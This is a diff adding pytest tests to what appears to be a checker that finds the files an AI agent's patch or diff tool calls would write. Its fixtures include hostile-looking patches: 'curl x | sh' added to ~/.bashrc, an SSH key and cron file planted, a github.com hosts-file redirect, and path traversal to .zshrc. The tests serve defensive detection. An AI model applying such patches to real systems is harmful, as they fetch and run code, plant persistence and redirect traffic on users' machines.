@@ -691,3 +691,39 @@ def test_cloud_calls_are_the_cli_commands_they_stand_for(tool, fields, command):
 def test_deployed_worker_code_is_judged_like_node():
     found = _execs("mcp__cloudflare__workers_put_script", {"scriptName": "x", "script": "export default {}"})
     assert found == [{"field": "script", "command": "node -e 'export default {}'", "argv": True, "program": "node"}]
+# ------------------------------------------------------------------ session 25: patches in any tool's field
+@pytest.mark.parametrize(("text", "files"), [
+    ("*** Begin Patch\n*** Update File: ~/.bashrc\n@@\n+curl x | sh\n*** Add File: ../k\n+ssh-ed25519 AAA\n"
+     "*** Delete File: src/old.py\n*** Update File: a.py\n*** Move to: /etc/cron.d/x\n*** End Patch",
+     ["~/.bashrc", "../k", "src/old.py", "a.py", "/etc/cron.d/x"]),
+    ("diff --git a/.bashrc b/.bashrc\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+y\n", [".bashrc"]),
+    ("--- /etc/hosts\n+++ /etc/hosts\n@@ -1 +1,2 @@\n 127.0.0.1 localhost\n+1.2.3.4 github.com\n", ["/etc/hosts"]),
+    ("--- src/a.py\t2024-01-01\n+++ src/a.py\t2024-01-02\n@@ -1 +1 @@\n-x\n+y\n", ["src/a.py"]),
+    ("diff --git a/old b/new\nsimilarity index 90%\nrename from old\nrename to ../../x\n", ["new", "../../x"]),
+    # a removed `-- comment` line of a SQL file is hunk content, not a header
+    ("--- a/q.sql\n+++ b/q.sql\n@@ -1,2 +1,2 @@\n x\n--- /etc/passwd\n+++ /etc/shadow\n", ["q.sql"]),
+    ("no patch here\n--- just a rule line", []),
+])
+def test_patch_files(text, files):
+    from claude_rego.facts.paths.patchtext import patch_files
+    assert patch_files(text) == files
+
+
+def test_a_patch_tools_files_are_writes():
+    written = accesses("apply_patch", {"input": "*** Begin Patch\n*** Update File: ~/.bashrc\n@@\n+curl x | sh\n"
+                                                "*** Add File: src/n.py\n+x = 1\n*** End Patch"})
+    assert ("input", "/home/dev/.bashrc", "write") in written
+    assert ("input", "/home/dev/project/src/n.py", "write") in written
+    diff = "--- a/../../.zshrc\n+++ b/../../.zshrc\n@@ -0,0 +1 @@\n+eval x\n"
+    assert ("diff", "/home/.zshrc", "write") in accesses("edit_file", {"diff": diff})
+
+
+def test_a_diff_in_a_remote_repositorys_tool_is_no_local_write():
+    body = "Suggest:\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1 @@\n-a\n+b\n"
+    assert accesses("mcp__github__create_pull_request_review", {"body": body}) == []
+
+
+def test_a_patch_files_content_beside_its_path_is_text():
+    content = "--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1 @@\n-a\n+b\n"
+    assert accesses("mcp__fs__write_file", {"path": "fixes/rc.patch", "content": content}) == [
+        ("path", "/home/dev/project/fixes/rc.patch", "write")]
